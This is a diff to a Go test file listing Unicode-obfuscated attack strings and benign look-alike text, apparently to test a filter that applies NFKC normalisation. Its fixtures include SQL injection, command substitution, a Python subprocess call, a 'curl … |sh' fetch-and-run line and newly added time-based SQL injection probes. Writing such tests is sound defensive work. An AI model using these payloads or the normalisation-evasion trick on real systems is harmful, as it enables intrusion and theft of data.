@@ -30,6 +30,8 @@ var nfkcAttacks = []string{
 	// attack 23's: spacing modifier letters (ʳ ˢ) and the Greek varia (` folds to a backtick)
 	"1' union ˢelect username, password from users--", `__impoʳt__("subprocess").getoutput("id")`,
 	"x `id`", "name=`curl -s 203.0.113.9|sh`",
+	// attack 24's: parenthesized digits (⑸ is (5))
+	"1 and sleep⑸", "1 and benchmark⑽",
 }
 
 // nfkcBenign is text with such characters that people write: Japanese
@@ -42,7 +44,7 @@ var nfkcBenign = []string{
 	"ﬁnancial oﬃce hours",
 	"Widget™ No. 1ª edición, 2º piso",
 	"（株）ＡＢＣ　ＴＥＬ：０３－１２３４－５６７８",
-	"えっと‥そうですね‥ (Ａ案)", "[pʰɪn] and [tʷo] /sʲa/", "① 最初に ② 次に ③ 最後に", "ⓒ 2026 ACME (all rights reserved)", "Ⓐ型（ＡＢＣ）", "🅰🅱 blood types",
+	"えっと‥そうですね‥ (Ａ案)", "⑴ 最初に ⑵ 次に ⒜ 付録", "[pʰɪn] and [tʷo] /sʲa/", "① 最初に ② 次に ③ 最後に", "ⓒ 2026 ACME (all rights reserved)", "Ⓐ型（ＡＢＣ）", "🅰🅱 blood types",
 }
 
 func TestNFKCFolded(t *testing.T) {
